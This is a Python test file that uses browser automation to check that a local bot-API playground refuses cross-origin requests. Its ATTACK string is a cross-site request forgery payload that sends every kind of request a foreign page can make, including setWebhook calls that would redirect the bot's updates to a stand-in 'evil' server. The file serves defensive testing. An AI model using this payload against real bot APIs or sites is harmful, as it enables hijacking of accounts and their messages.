"""A web page of another origin, open in the same browser: it drives nothing of the playground, and reads nothing."""

from __future__ import annotations

import asyncio
import re
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from browser import CHROMIUM, Bot, BrowserUser, browser, free_port
from local_bot_api import CHAT, TOKEN, RunningPlayground, running_playground
from playwright.async_api import Browser, Page, Request, Response

pytestmark = pytest.mark.slow

OLD_TOKEN = "1000000001:playground"  # noqa: S105 - it stood in the source once
NAMED = "evil.example"
ELSEWHERE = f"--host-resolver-rules=MAP {NAMED} 127.0.0.1"
"""A page of another site; its server is on this machine, so that the browser asks nobody."""

ATTACK = """async ([gets, posts]) => {
    const frame = () => {
        const made = document.createElement("iframe");
        made.name = "f" + document.querySelectorAll("iframe").length;
        document.body.append(made);
        return made;
    };
    const submit = (method, url, type, fields) => {
        const form = document.createElement("form");
        Object.assign(form, { method, action: url, enctype: type, target: frame().name });
        for (const [name, value] of Object.entries(fields)) {
            const input = document.createElement("input");
            Object.assign(input, { name, value });
            form.append(input);
        }
        document.body.append(form);
        form.submit();
    };
    const read = [];
    const fetched = async (url, options) => {
        try {
            const answer = await fetch(url, options);
            read.push(await answer.text());
        } catch { /* that is what should happen */ }
    };
    const under = [];
    for (const url of gets) {
        new Image().src = url;
        document.head.append(Object.assign(document.createElement("script"), { src: url }));
        document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url }));
        frame().src = url;
        new EventSource(url);
        const asked = new URL(url);
        submit("get", asked.origin + asked.pathname, "", Object.fromEntries(asked.searchParams));
        for (const mode of ["cors", "no-cors"]) {
            under.push(fetched(url, { mode, credentials: "include" }));
            under.push(fetched(url, { mode, method: "HEAD" }));
        }
    }
    for (const [url, said] of posts) {
        for (const type of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"])
            submit("post", url, type, said);
        const body = JSON.stringify(said);
        navigator.sendBeacon(url, body);
        for (const type of ["text/plain", "application/json"]) {
            const headers = { "Content-Type": type };
            under.push(fetched(url, { method: "POST", mode: "cors", body, headers, credentials: "include" }));
            under.push(fetched(url, { method: "POST", mode: "no-cors", body, headers, credentials: "include" }));
        }
        for (const method of ["PUT", "DELETE", "PATCH", "OPTIONS"]) under.push(fetched(url, { method, body: "" }));
    }
    await Promise.allSettled(under);
    await new Promise((done) => setTimeout(done, 1500));
    return read.filter((text) => text);
}"""
"""All that a page can do to an address without being asked, and what it could read of the answers."""


@dataclass
class Evil:
    """A foreign page's server: hands out one empty page, sends a visitor on, and notes what is brought to it."""

    port: int
    got: list[bytes] = field(default_factory=list)
    sends_on_to: str = ""

    async def answer(self, request: web.Request) -> web.Response:
        if request.method == "POST":
            self.got.append(await request.read())
        if request.path == "/on":
            raise web.HTTPFound(self.sends_on_to)
        return web.Response(text="<!doctype html><title>evil</title><body>", content_type="text/html")


@asynccontextmanager
async def evil_server() -> AsyncIterator[Evil]:
    evil = Evil(free_port())
    runner = web.AppRunner(web.Application(), access_log=None)
    runner.app.router.add_route("*", "/{path:.*}", evil.answer)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", evil.port).start()
    yield evil
    await runner.cleanup()


@dataclass
class Scene:
    """A playground, a foreign page, and what the browser was answered by the playground."""

    play: RunningPlayground
    evil: Evil
    browser: Browser
    calls: list[str]
    asked: int = 0
    statuses: Counter[int] = field(default_factory=Counter)

    def count(self, request: Request) -> None:
        self.asked += request.url.startswith(self.play.url)

    def note(self, response: Response) -> None:
        """Note what was answered; of what the page may not even know the status, the browser tells nothing."""
        if response.url.startswith(self.play.url):
            self.statuses[response.status] += 1

    async def foreign(self, host: str) -> Page:
        """Open the foreign page under a name, in a browser that has the playground's own page open as well."""
        context = await self.browser.new_context()
        own = await context.new_page()
        await own.goto(self.play.url)
        page = await context.new_page()
        page.on("request", self.count)
        page.on("response", self.note)
        await page.goto(f"http://{host}:{self.evil.port}/")
        return page


@pytest.fixture
async def scene() -> AsyncIterator[Scene]:
    assert CHROMIUM, "no browser: apt install chromium fonts-noto-color-emoji"
    calls: list[str] = []

    def observe(method: str, *_: Any) -> None:
        calls.append(method)

    async with (
        running_playground(token=TOKEN, observe=observe) as playground,
        evil_server() as evil,
        browser(ELSEWHERE) as running,
    ):
        yield Scene(playground, evil, running, calls)


def addresses(playground: RunningPlayground, evil: Evil) -> tuple[list[str], list[tuple[str, dict[str, Any]]]]:
    """Give what a page would ask for, and what it would send; the right token stands among the wrong ones."""
    hook = f"http://127.0.0.1:{evil.port}/hook"
    made_up = {"chat_id": CHAT, "text": "Anterior corpectomy is indicated"}
    posts: list[tuple[str, dict[str, Any]]] = []
    gets = ["/", "/index.html", "/app.js", "/icon.svg", "/play/state", "/play/events", "/play/file/file-1"]
    for token in (TOKEN, OLD_TOKEN, "42:abc"):
        bot = f"/bot{token}"
        gets += [f"{bot}/setWebhook?url={hook}", f"{bot}/getUpdates", f"{bot}/getUpdates?offset=-1", f"{bot}/getMe"]
        gets += [f"{bot}/sendMessage?chat_id={CHAT}&text=Anterior", f"{bot}/deleteWebhook?drop_pending_updates=true"]
        posts += [(f"{bot}/sendMessage", made_up), (f"{bot}/setWebhook", {"url": hook}), (f"{bot}/getUpdates", {})]
    for what in ("send", "tap", "vote", "forward", "inline", "choose", "admin/person"):
        posts.append((f"/play/{what}", made_up | {"message_id": 1, "data": "x", "query": "T8", "name": "Mallory"}))
    return [playground.url + path for path in gets], [(playground.url + path, said) for path, said in posts]


@pytest.mark.parametrize("host", ["127.0.0.1", NAMED], ids=["of another port", "of another site"])
async def test_a_foreign_page_is_refused_whatever_it_asks_for_and_however(scene: Scene, host: str) -> None:
    await scene.play.say("before")
    before = await scene.play.state()
    page = await scene.foreign(host)
    read = await page.evaluate(ATTACK, list(addresses(scene.play, scene.evil)))
    assert set(scene.statuses) == {403}, scene.statuses
    assert (scene.asked > 300, scene.statuses[403] > 50) == (True, True), "it has tried"
    assert read == []
    assert scene.calls == []
    assert scene.evil.got == []
    after = await scene.play.state()
    assert after == before
    assert len(await scene.play.updates()) == 1


async def test_a_refused_page_is_told_why_in_plain_words(scene: Scene) -> None:
    page = await scene.foreign(NAMED)
    async with page.expect_popup() as opened:
        await page.evaluate("url => { window.open(url); }", scene.play.url)
    shown = await opened.value
    await shown.wait_for_load_state()
    assert "another page asked for this" in await shown.locator("body").inner_text()
    assert "type its address into the address bar" in await shown.locator("body").inner_text()


async def test_an_address_that_was_typed_and_leads_on_to_the_playground_does_nothing(scene: Scene) -> None:
    """What was typed counts as wished by the person, wherever it is sent on to: only the token holds here."""
    page = await (await scene.browser.new_context()).new_page()
    for path in (f"/bot{OLD_TOKEN}/sendMessage?chat_id={CHAT}&text=Anterior", f"/bot{OLD_TOKEN}/getUpdates"):
        scene.evil.sends_on_to = scene.play.url + path
        answer = await page.goto(f"http://{NAMED}:{scene.evil.port}/on")
        assert answer
        assert answer.status == 401
    assert scene.calls == []
    assert (await scene.play.state())["chats"][0]["messages"] == []


async def test_the_own_page_works_when_it_is_typed_reloaded_and_after_a_new_key(scene: Scene) -> None:
    page = await (await scene.browser.new_context()).new_page()
    await page.goto(scene.play.url)
    await page.reload()
    assert await page.evaluate("fetch('/play/state').then(answer => answer.status)") == 200
    await page.context.clear_cookies()
    await page.locator("#start").click()
    await page.get_by_text("/start").first.wait_for()


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": ""},
        {"Sec-Fetch-Site": "same-origin", "Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://127.0.0.1:1"},
        {"Origin": ""},
        {"Host": "evil.example"},
        {"Host": "playground.localhost"},
        {"Host": ""},
    ],
    ids=str,
)
@pytest.mark.parametrize("method", ["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH"])
async def test_every_method_and_path_is_refused_to_who_comes_from_elsewhere(
    method: str, headers: dict[str, str]
) -> None:
    async with running_playground() as playground:
        for path in ("/", "/app.js", "/play/state", "/play/send", "/nothing", f"/bot{TOKEN}/getMe", "/botx/getMe"):
            async with playground.session.request(method, playground.url + path, headers=headers) as response:
                assert response.status == 403, path
                assert method == "HEAD" or (await response.text()).startswith("Forbidden: ")


@pytest.mark.parametrize("cookie", ["", "playground-{port}=x", "playground-1={key}", "x={key}", "playground-{port}="])
async def test_what_belongs_to_the_page_is_closed_to_who_does_not_have_the_key_of_this_run(cookie: str) -> None:
    async with running_playground() as playground:
        wrong = {"Cookie": cookie.format(port=playground.port, key=playground.app.key)}
        async with playground.session.get(f"{playground.url}/play/state", headers=wrong) as response:
            assert response.status == 403
            assert "open / first" in await response.text()
        said = {"chat_id": CHAT, "text": "x"}
        async with playground.session.post(f"{playground.url}/play/send", json=said, headers=wrong) as response:
            assert response.status == 403
        assert await playground.updates() == []


async def test_the_key_comes_with_the_page_and_is_another_in_each_run() -> None:
    keys = set()
    for _ in range(2):
        async with running_playground() as playground, aiohttp.ClientSession() as anybody:
            async with anybody.get(playground.url) as response:
                cookie = response.headers["Set-Cookie"]
            assert {"HttpOnly", "SameSite=Strict", "Path=/play"} < set(cookie.split("; "))
            keys.add(cookie.partition(";")[0].partition("=")[2])
            async with anybody.get(f"{playground.url}/app.js") as response:
                assert "Set-Cookie" not in response.headers
    assert len(keys) == 2


@pytest.fixture
def bot(tmp_path: Path) -> Iterator[Bot]:
    bot = Bot(tmp_path / "data")
    yield bot
    if bot.process and bot.process.poll() is None:
        bot.kill()


async def test_a_note_that_is_typed_beside_a_foreign_page_reaches_the_bot_and_nobody_else(bot: Bot) -> None:
    assert CHROMIUM
    address = bot.start()
    async with evil_server() as evil, browser(ELSEWHERE) as running:
        context = await running.new_context()
        own, foreign = await context.new_page(), await context.new_page()
        await own.goto(address)
        await foreign.goto(f"http://{NAMED}:{evil.port}/")
        hook, bot_url = f"http://127.0.0.1:{evil.port}/hook", f"{address}/bot{OLD_TOKEN}"
        tries = [f"{bot_url}/{said}" for said in (f"setWebhook?url={hook}", "getUpdates", "getUpdates?timeout=9")]
        await foreign.evaluate(ATTACK, [tries, [[f"{bot_url}/sendMessage", {"chat_id": CHAT, "text": "Anterior"}]]])
        private_chat = BrowserUser(own)
        await private_chat.write("T8 fit, Frau Zweigelstein 12.03.1950")
        await private_chat.reads("T8")
        assert await own.get_by_text(re.compile("^Anterior$")).count() == 0
        await asyncio.sleep(1)
        assert evil.got == []
    assert bot.stop() == 0
